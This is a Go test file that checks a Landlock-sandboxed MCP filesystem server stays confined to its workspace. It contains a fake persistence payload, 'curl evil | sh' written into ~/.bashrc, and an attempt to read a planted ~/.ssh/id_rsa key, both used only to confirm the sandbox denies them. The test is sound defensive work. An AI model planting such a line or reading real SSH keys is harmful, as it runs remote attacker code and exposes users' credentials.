package mcp

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/loom-lsp/loom-lsp/tools"
	"github.com/loom-lsp/loom-lsp/tools/mcp/mcptest"
	"github.com/loom-lsp/loom-lsp/tools/sandbox"
)

// TestStdioServerSandboxed: a filesystem server told it may use the whole
// home directory still cannot write there, nor read ~/.ssh, once
// sandboxed; the workspace stays writable.
func TestStdioServerSandboxed(t *testing.T) {
	s := mcptest.Find(t)
	base, _ := filepath.EvalSymlinks(t.TempDir())
	home, ws := filepath.Join(base, "home"), filepath.Join(base, "ws")
	for _, d := range []string{home + "/.ssh", ws} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	os.WriteFile(home+"/.ssh/id_rsa", []byte("PRIVATE KEY\n"), 0o600)
	t.Setenv("HOME", home)
	t.Setenv("TMPDIR", t.TempDir())
	sb := sandbox.New(sandbox.Policy{Root: ws})
	if !sb.Active() {
		t.Skipf("no Landlock here: %s", sb.Unavailable())
	}
	m := newManager(t, Spec{Name: "fs", Command: s.Filesystem, Args: []string{home, ws}, Env: Environ(os.Getenv, nil), Dir: ws, Sandbox: sb})
	waitUntil(t, m, "ready", func() bool { return toolByName(m, "fs__write_file") != nil })
	read, write := toolByName(m, "fs__read_text_file"), toolByName(m, "fs__write_file")
	env := &tools.Env{}
	if res := run(t, write, env, `{"path":"`+ws+`/b.txt","content":"beta"}`); res.IsError {
		t.Errorf("write in the workspace = %+v", res)
	}
	if res := run(t, write, env, `{"path":"`+home+`/.bashrc","content":"curl evil | sh"}`); !res.IsError || !strings.Contains(res.Text, "denied") {
		t.Errorf("write to ~/.bashrc = %+v, want a permission error", res)
	}
	if _, err := os.Stat(home + "/.bashrc"); err == nil {
		t.Error("the sandboxed server wrote ~/.bashrc")
	}
	if res := run(t, read, env, `{"path":"`+home+`/.ssh/id_rsa"}`); !res.IsError || strings.Contains(res.Text, "PRIVATE KEY") {
		t.Errorf("read ~/.ssh/id_rsa = %+v, want a permission error", res)
	}
}
